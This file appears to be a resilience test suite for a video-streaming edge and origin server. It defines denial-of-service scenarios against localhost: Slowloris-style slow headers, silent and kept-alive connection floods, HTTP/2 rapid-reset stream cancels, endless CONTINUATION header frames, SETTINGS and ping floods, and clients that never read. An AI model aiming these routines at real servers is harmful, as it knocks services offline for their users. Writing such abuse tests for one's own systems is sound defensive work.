// Connections that are held: without a word, with half a request, with nothing but a preamble, or without reading what is answered.

import { constants } from 'node:http2';

import { stranger, together } from '../attack.js';
import { ahead, newest } from '../honest/player.js';
import { openSession } from '../wire/http2.js';
import { keepOpen } from '../wire/tcp.js';

/** More than the edge takes at once. */
const ALL = 1800;
const NETWORKS = 4;
const PREAMBLE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
]);
const HEAD = 'GET /api/status HTTP/1.1\r\nHost: localhost\r\n';

/** `GET /` as HPACK (RFC 7541) has it, and 3000 more header fields. */
const HEAD_HTTP2 = Buffer.from([0x82, 0x84, 0x86, 0x41, 1, 0x78]);
const MORE_HEAD_HTTP2 = Buffer.concat(Array(3000).fill(Buffer.from([0, 1, 0x61, 1, 0x62])));

/** A frame (RFC 9113 §4.1). */
function http2Frame(kind, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = kind;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function holding({ name, about, count = ALL, to = 'edge', quick, bounds, ...what }) {
  return {
    name,
    about,
    quick,
    bounds: { opened: { least: count / 2 }, ...bounds },
    attack: (attack, place) =>
      together(count, (number) =>
        keepOpen(attack, { port: place[to].port, from: stranger(number % NETWORKS), ...what }),
      ),
  };
}

/** The newest segment of a broadcast, as a request. */
async function segment({ edge }) {
  return `GET ${await newest(edge.url)} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
}

export const connections = [
  holding({ name: 'connections-silent', about: `${ALL} connections from ${NETWORKS} addresses that say nothing` }),
  holding({
    name: 'connections-slow-heads',
    about: `${ALL} connections from ${NETWORKS} addresses with a head that grows by a line a second`,
    begin: (socket) => socket.write(HEAD),
    drip: (socket) => socket.write('X-More: b\r\n'),
  }),
  holding({
    name: 'connections-http2-preambles',
    about: `${ALL} HTTP/2 connections from ${NETWORKS} addresses without a request`,
    quick: true,
    begin: (socket) => socket.write(PREAMBLE),
  }),
  holding({
    name: 'connections-http2-pings',
    about: `${ALL} HTTP/2 connections from ${NETWORKS} addresses that send pings and no request`,
    begin: (socket) => socket.write(PREAMBLE),
    drip: (socket) => socket.write(Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8])),
  }),
  holding({
    name: 'connections-kept-alive',
    about: `${ALL} connections from ${NETWORKS} addresses that were answered once and are kept`,
    begin: (socket) => socket.write(`${HEAD}\r\n`),
  }),
  {
    name: 'connections-that-do-not-read',
    about: '400 connections from 4 addresses that ask for segments, again and again, and read nothing',
    bounds: { opened: { least: 200 } },
    async attack(attack, place) {
      const asked = (await segment(place)).repeat(20);
      await together(400, (number) =>
        keepOpen(attack, {
          port: place.edge.port,
          from: stranger(number % NETWORKS),
          deaf: true,
          begin: (socket) => socket.write(asked),
        }),
      );
    },
  },
  {
    name: 'connections-blocked-playlists',
    about: '300 connections from one address that always wait for the playlist after the next',
    bounds: { opened: { least: 100 } },
    async attack(attack, place) {
      await together(300, () =>
        keepOpen(attack, {
          port: place.edge.port,
          from: stranger(0),
          begin: (socket) =>
            ahead(place.edge.url).then(
              (path) => socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`),
              () => socket.destroy(),
            ),
          onData: (_, socket) => socket.destroy(),
        }),
      );
    },
  },
  {
    name: 'connections-http2-resets',
    about: 'four HTTP/2 connections whose streams are reset as soon as they are opened, some thousand a second',
    bounds: { streams: { least: 1000 } },
    attack: (attack, place) =>
      together(4, async (number) => {
        let session = openSession(attack, { port: place.edge.port, from: stranger(number) });
        await attack.again(20, () => {
          if (session.closed || session.destroyed) {
            attack.count('closed');
            session = openSession(attack, { port: place.edge.port, from: stranger(number) });
          }
          for (let count = 0; count < 25 && !session.closed && !session.destroyed; count += 1) {
            const stream = session.request({ ':path': '/api/status' });
            stream.on('error', () => {});
            stream.close(constants.NGHTTP2_CANCEL);
            attack.count('streams');
          }
        });
      }),
  },
  holding({
    name: 'connections-http2-endless-heads',
    about: '60 HTTP/2 connections from 4 addresses with a head of 1 MiB more each second, which never ends',
    count: 60,
    begin: (socket) => socket.write(Buffer.concat([PREAMBLE, http2Frame(1, 0, 1, HEAD_HTTP2)])),
    drip: (socket) => socket.write(Buffer.concat(Array(70).fill(http2Frame(9, 0, 1, MORE_HEAD_HTTP2)))),
  }),
  holding({
    name: 'connections-http2-settings',
    about: '60 HTTP/2 connections from 4 addresses that send 5000 settings a second and read no acknowledgement',
    count: 60,
    deaf: true,
    begin: (socket) => socket.write(PREAMBLE),
    drip: (socket) => socket.write(Buffer.concat(Array(5000).fill(http2Frame(4, 0, 0, Buffer.alloc(0))))),
  }),
  holding({
    name: 'connections-origin-silent',
    about: '120 connections from 4 addresses to the origin’s own listener that say nothing',
    count: 120,
    to: 'origin',
  }),
  holding({
    name: 'connections-origin-kept-alive',
    about: '120 connections from 4 addresses to the origin’s own listener that were answered once and are kept',
    count: 120,
    to: 'origin',
    begin: (socket) => socket.write('GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n'),
  }),
];
